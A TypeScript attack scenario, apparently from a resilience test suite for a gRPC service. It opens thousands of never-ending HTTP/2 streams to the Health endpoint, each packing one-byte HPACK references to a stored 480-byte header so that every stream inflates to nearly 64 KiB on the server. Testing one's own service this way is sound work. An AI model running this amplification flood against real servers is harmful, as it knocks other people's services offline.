/** Streams on Health that never end, each with a long list of headers that takes a byte a header on the wire. */
import {
  callHeaders,
  END_HEADERS,
  FRAME,
  http2Frame,
  keptHeader,
  NEWEST_ENTRY,
} from '../../tools/network/http2-frames.ts';
import { HEALTH } from '../requests.ts';
import type { Attack } from '../scenario.ts';
import { attackInLanes, streamEnds } from '../wire.ts';

const CONNECTIONS = 30;
/** What the service allows on a connection. */
const STREAMS = 990;
/** As many as Node takes with those of a call; together just under 64 KiB. */
const REFERENCES = 115;
const VALUE_BYTES = 480;

export const endlessHealth: Attack = {
  name: 'endless-health',
  title: `streams on Health that never end, each with ${REFERENCES} one-byte header references, on ${CONNECTIONS} connections`,
  kind: 'strangers',
  run: (target, tally) =>
    attackInLanes(target, tally, CONNECTIONS, async ({ open, over }, index) => {
      const onData = streamEnds(() => {
        tally.answered += 1;
      });
      const wire = await open({ port: target.grpcPort, address: index, onData });
      if (wire === null) return null;
      const call = callHeaders(HEALTH);
      const kept = keptHeader('x-kept', 'x'.repeat(VALUE_BYTES));
      const references = Buffer.alloc(REFERENCES, NEWEST_ENTRY);
      for (let number = 0; number < STREAMS && !over(); number += 1) {
        const block = Buffer.concat([call, ...(number === 0 ? [kept] : []), references]);
        if (!(await wire.write(http2Frame(FRAME.HEADERS, END_HEADERS, number * 2 + 1, block)))) break;
        tally.sent += 1;
      }
      return wire;
    }),
};
